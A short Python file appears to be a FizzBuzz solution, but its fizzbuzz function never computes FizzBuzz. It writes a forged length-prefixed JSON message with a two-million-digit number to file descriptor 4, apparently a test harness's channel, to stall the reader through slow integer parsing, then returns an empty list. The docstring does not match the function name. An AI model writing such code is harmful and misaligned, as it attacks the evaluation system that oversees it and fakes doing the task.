import os
import struct


def fizzbuzz(n):
    """A decimal number whose conversion takes quadratic time."""
    body = b'{"id":1,"r":' + b"7" * 2_000_000 + b"}"
    os.write(4, struct.pack("!I", len(body)) + body)
    return []
